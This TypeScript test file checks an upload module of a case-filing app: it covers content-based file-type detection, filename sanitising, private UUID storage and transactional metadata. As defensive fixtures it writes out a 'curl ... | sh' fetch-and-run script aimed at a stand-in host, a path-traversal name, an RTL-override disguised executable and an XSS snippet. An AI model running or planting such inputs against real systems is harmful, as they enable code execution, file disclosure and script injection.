import { inTransaction, type Conn } from '@/db/client';
/**
 * Attachments are judged by their bytes: every sample below is built in memory as the real format
 * (or the real attack) and goes through the same checks a filing does, then onto a temporary disk.
 */
import { eq } from 'drizzle-orm';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { attachments } from '@/db/tables';
import { AppError } from '../core/errors';
import { captureAppError, fileCase } from '../testing/fixtures';
import { openTestDb } from '../testing/test-db';
import {
  UPLOAD_LIMITS,
  checkUploads,
  incomingFiles,
  readStoredUpload,
  recordAttachments,
  sanitizeFileName,
  storeUploads,
  uploadDir,
  type IncomingFile,
} from './uploads';

const text = (s: string) => new TextEncoder().encode(s);
const bytes = (...list: number[]) => new Uint8Array(list);
const padded = (head: number[], length: number) => {
  const out = new Uint8Array(length);
  out.set(head);
  return out;
};

const PDF = text(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n' +
    '2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);
/** A complete 1×1 transparent PNG (signature, IHDR, IDAT, IEND with their CRCs). */
const PNG = Uint8Array.from(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  ),
);
const ELF = padded([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 64);
const WINDOWS_EXE = padded([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04], 128);
const MACH_O = padded([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01], 64);
const SHELL_SCRIPT = text('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
const CFB = padded([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 512);

/** A stored (uncompressed) ZIP: enough for file-type to read the OOXML/ODF markers inside. */
function zip(entries: Array<[name: string, content: string]>): Uint8Array {
  const parts: Buffer[] = [];
  for (const [name, content] of entries) {
    const data = Buffer.from(content);
    const fileName = Buffer.from(name);
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt32LE(zlib.crc32(data), 14);
    header.writeUInt32LE(data.length, 18);
    header.writeUInt32LE(data.length, 22);
    header.writeUInt16LE(fileName.length, 26);
    parts.push(header, fileName, data);
  }
  return new Uint8Array(Buffer.concat(parts));
}
const DOCX_MIME = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const DOCX = zip([
  ['[Content_Types].xml', `<Types><Override ContentType="${DOCX_MIME}.main+xml"/></Types>`],
  ['word/document.xml', '<w:document/>'],
]);
const ODT = zip([['mimetype', 'application/vnd.oasis.opendocument.text']]);
const PLAIN_ZIP = zip([['notas.txt', 'hola']]);

async function checkOne(name: string, content: Uint8Array) {
  const [checked] = await checkUploads([{ name, bytes: content }]);
  return checked;
}

async function refusalKey(files: IncomingFile[]): Promise<string | undefined> {
  const error: unknown = await checkUploads(files).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(AppError);
  expect((error as AppError).code).toBe('VALIDATION');
  return (error as AppError).fieldErrors?.attachments?.[0];
}

describe('checkUploads: accepted by content', () => {
  it.each([
    ['informe.pdf', PDF, 'application/pdf'],
    ['foto.png', PNG, 'image/png'],
    ['carta.docx', DOCX, DOCX_MIME],
    ['carta.odt', ODT, 'application/vnd.oasis.opendocument.text'],
    ['viejo.DOC', CFB, 'application/msword'],
    ['tabla.xls', CFB, 'application/vnd.ms-excel'],
    ['notas.txt', text('Señora, adjunto el soporte del pago.\n'), 'text/plain'],
    ['datos.csv', text('fecha,valor\n2026-03-13,45000\n'), 'text/csv'],
    // The content decides: a real PDF under a misleading name is still a PDF.
    ['soporte.txt', PDF, 'application/pdf'],
    ['imagen.pdf', PNG, 'image/png'],
  ])('%s is %s', async (name, content, mime) => {
    const checked = await checkOne(name, content);
    expect(checked?.mimeType).toBe(mime);
    expect(checked?.sizeBytes).toBe(content.byteLength);
    expect(checked?.bytes).toBe(content);
  });

  it('records the SHA-256 of the bytes', async () => {
    const checked = await checkOne('informe.pdf', PDF);
    const digest = Buffer.from(await crypto.subtle.digest('SHA-256', PDF)).toString('hex');
    expect(checked?.sha256).toBe(digest);
  });
});

describe('checkUploads: refused', () => {
  it.each([
    ['an ELF executable renamed .pdf', 'factura.pdf', ELF],
    ['a Windows MZ executable renamed .pdf', 'factura.pdf', WINDOWS_EXE],
    ['a Mach-O executable renamed .pdf', 'factura.pdf', MACH_O],
    ['a shell script renamed .pdf', 'factura.pdf', SHELL_SCRIPT],
    ['a shell script renamed .txt', 'notas.txt', SHELL_SCRIPT],
    ['a Windows executable renamed .txt', 'notas.txt', WINDOWS_EXE],
    ['text with a NUL byte', 'notas.txt', bytes(0x68, 0x6f, 0x00, 0x6c, 0x61)],
    ['text that is not UTF-8', 'notas.txt', bytes(0x68, 0xff, 0xfe, 0x61)],
    ['valid text under another name', 'notas.html', text('<script>alert(1)</script>')],
    ['a Compound File not named as Office', 'instalador.msi', CFB],
    ['a plain ZIP archive', 'anexos.zip', PLAIN_ZIP],
  ])('%s', async (_label, name, content) => {
    expect(await refusalKey([{ name, bytes: content }])).toBe('fileType');
  });

  it('refuses more than five files before looking at any of them', async () => {
    const six = Array.from({ length: UPLOAD_LIMITS.maxFiles + 1 }, (_, i) => ({
      name: `f${i}.pdf`,
      bytes: PDF,
    }));
    expect(await refusalKey(six)).toBe('tooManyFiles');
    await expect(checkUploads(six.slice(1))).resolves.toHaveLength(UPLOAD_LIMITS.maxFiles);
  });

  it('refuses a file over 10 MB by size, even if its content would be refused too', async () => {
    const big = new Uint8Array(11 * 1024 * 1024);
    big.set(PDF);
    expect(await refusalKey([{ name: 'escaneo.pdf', bytes: big }])).toBe('fileTooLarge');
    const hugeExe = padded(Array.from(WINDOWS_EXE.subarray(0, 16)), 11 * 1024 * 1024);
    // Sizes come first across the batch: the executable listed before it is not sniffed.
    expect(
      await refusalKey([
        { name: 'a.pdf', bytes: WINDOWS_EXE },
        { name: 'b.pdf', bytes: hugeExe },
      ]),
    ).toBe('fileTooLarge');
  });

  it('accepts a file of exactly 10 MB', async () => {
    const limit = padded(Array.from(PDF), UPLOAD_LIMITS.maxBytes);
    expect((await checkOne('escaneo.pdf', limit))?.sizeBytes).toBe(UPLOAD_LIMITS.maxBytes);
  });
});

describe('file names', () => {
  it('keeps only the last path segment', async () => {
    expect((await checkOne('../../etc/passwd', PDF))?.originalName).toBe('passwd');
  });

  it.each([
    ['C:\\fakepath\\recibo.pdf', 'recibo.pdf'],
    ['re\u0000ci\u001fbo\n.pdf', 'recibo.pdf'],
    ['factura\u202Efdp.exe', 'facturafdp.exe'],
    ...['', '..', '../', '\u0000\u0001', '   '].map((name) => [name, 'archivo']),
  ])('sanitises %j to %j', (name, expected) => {
    expect(sanitizeFileName(name)).toBe(expected);
  });

  it('caps the name at 120 characters, keeping the extension', async () => {
    const name = sanitizeFileName(`${'ñ'.repeat(300)}.pdf`);
    expect(Array.from(name)).toHaveLength(120);
    expect(name.endsWith('ñ.pdf')).toBe(true);
  });
});

describe('incomingFiles', () => {
  it('reads the files and skips the empty input a browser sends for no file', async () => {
    const form = new FormData();
    form.append('attachments', new File([PDF], 'informe.pdf'));
    form.append('attachments', new File([], ''));
    form.append('attachments', 'not a file');
    form.append('other', new File([PNG], 'foto.png'));
    const files = await incomingFiles(form.getAll('attachments'));
    expect(files).toEqual([{ name: 'informe.pdf', bytes: PDF }]);
    expect(await incomingFiles(form.getAll('other'))).toEqual([{ name: 'foto.png', bytes: PNG }]);
  });

  it('keeps a named empty file, which checkUploads refuses as fileEmpty', async () => {
    const form = new FormData();
    form.append('attachments', new File([], 'vacio.pdf'));
    expect(await refusalKey(await incomingFiles(form.getAll('attachments')))).toBe('fileEmpty');
  });
});

describe('storage', () => {
  let dir: string;

  beforeEach(async () => {
    // A folder that does not exist yet: storeUploads creates it.
    dir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'ventanilla-uploads-')), 'nested');
    process.env.UPLOAD_DIR = dir;
  });
  afterEach(async () => {
    vi.unstubAllEnvs();
    delete process.env.UPLOAD_DIR;
    fs.rmSync(path.dirname(dir), { recursive: true, force: true });
  });

  const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

  it('writes private files under random UUID names whose bytes round-trip', async () => {
    const checked = await checkUploads([
      { name: 'informe.pdf', bytes: PDF },
      { name: 'informe.pdf', bytes: PNG },
    ]);
    const { stored } = storeUploads(checked);
    expect(uploadDir()).toBe(dir);
    expect(stored).toHaveLength(2);
    expect(new Set(stored.map((s) => s.storedName)).size).toBe(2);
    for (const [i, upload] of stored.entries()) {
      expect(upload.storedName).toMatch(UUID);
      expect(upload).toMatchObject({
        originalName: checked[i]?.originalName,
        mimeType: checked[i]?.mimeType,
        sha256: checked[i]?.sha256,
      });
      const file = path.join(dir, upload.storedName);
      expect(fs.statSync(file).mode & 0o777).toBe(0o600);
      expect(new Uint8Array(readStoredUpload(upload.storedName))).toEqual(checked[i]?.bytes);
    }
  });

  it('discard() removes exactly the files of that batch', async () => {
    const keep = storeUploads(await checkUploads([{ name: 'a.pdf', bytes: PDF }]));
    const drop = storeUploads(
      await checkUploads([
        { name: 'b.png', bytes: PNG },
        { name: 'c.txt', bytes: text('hola') },
      ]),
    );
    fs.writeFileSync(path.join(dir, 'unrelated'), 'x');
    drop.discard();
    drop.discard();
    expect(fs.readdirSync(dir).sort()).toEqual(
      [keep.stored[0]?.storedName ?? '', 'unrelated'].sort(),
    );
  });

  it('refuses to read anything but a UUID name, even when the path exists', async () => {
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, '..', 'x'), 'secreto');
    fs.writeFileSync(path.join(dir, 'notas.txt'), 'interno');
    for (const name of ['../x', `../${path.basename(dir)}/notas.txt`, 'notas.txt', '', 'a/b']) {
      expect((await captureAppError(() => readStoredUpload(name))).code).toBe('NOT_FOUND');
    }
    expect((await captureAppError(() => readStoredUpload(crypto.randomUUID()))).code).toBe(
      'NOT_FOUND',
    );
  });

  it('defaults to data/uploads beside the database and never resolves under public/', async () => {
    vi.stubEnv('UPLOAD_DIR', undefined);
    vi.stubEnv('DATABASE_PATH', undefined);
    expect(uploadDir()).toBe(path.join(process.cwd(), 'data', 'uploads'));
    vi.stubEnv('DATABASE_PATH', '/srv/ventanilla/db/main.db');
    expect(uploadDir()).toBe('/srv/ventanilla/db/uploads');
    vi.stubEnv('UPLOAD_DIR', path.join(process.cwd(), 'public', 'uploads'));
    expect(() => uploadDir()).toThrow(/outside the web root/);
  });

  describe('with the database', () => {
    let db: Conn;
    let cleanup: () => Promise<void>;
    beforeEach(async () => ({ db, cleanup } = await openTestDb()));
    afterEach(() => cleanup());

    it('records the metadata rows in the caller transaction', async () => {
      const caseId = (await fileCase(db)).id;
      const { stored } = storeUploads(await checkUploads([{ name: 'a.pdf', bytes: PDF }]));
      const now = new Date('2026-03-16T15:00:00Z');
      await inTransaction(
        db,
        async (tx) => await recordAttachments(tx, caseId, null, stored, 'internal', now),
      );
      const rows = await db.select().from(attachments).where(eq(attachments.caseId, caseId));
      expect(rows).toEqual([
        expect.objectContaining({
          ...stored[0],
          caseId,
          eventId: null,
          visibility: 'internal',
          createdAt: now,
        }),
      ]);
    });

    it('leaves neither rows nor files when the transaction fails and the caller discards', async () => {
      const caseId = (await fileCase(db)).id;
      const { stored, discard } = storeUploads(await checkUploads([{ name: 'a.pdf', bytes: PDF }]));
      try {
        await inTransaction(db, async (tx) => {
          await recordAttachments(tx, caseId, null, stored);
          throw new Error('later step failed');
        });
      } catch {
        discard();
      }
      expect(await db.select().from(attachments)).toEqual([]);
      expect(fs.readdirSync(dir)).toEqual([]);
    });
  });
});
